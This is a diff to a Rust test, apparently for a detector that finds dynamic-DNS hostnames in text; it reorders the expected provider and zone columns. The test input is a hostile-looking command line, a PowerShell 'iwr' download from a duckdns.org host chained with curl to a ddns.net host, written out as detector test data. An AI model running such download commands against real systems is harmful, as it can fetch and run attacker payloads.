@@ -70,7 +70,7 @@ fn check_text_mode_finds_embedded_hosts() {
     assert_eq!(
         stdout(&o),
         "value,isDynDNS,provider,dyndns_zone,dyndns_category,dyndns_tier\n\
-         powershell -c iwr http://a.duckdns.org/x; curl b.ddns.net,True,\"DuckDNS\nNo-IP\",\"duckdns.org\nddns.net\",ddns,core\n"
+         powershell -c iwr http://a.duckdns.org/x; curl b.ddns.net,True,\"No-IP\nDuckDNS\",\"ddns.net\nduckdns.org\",ddns,core\n"
     );
 }
 
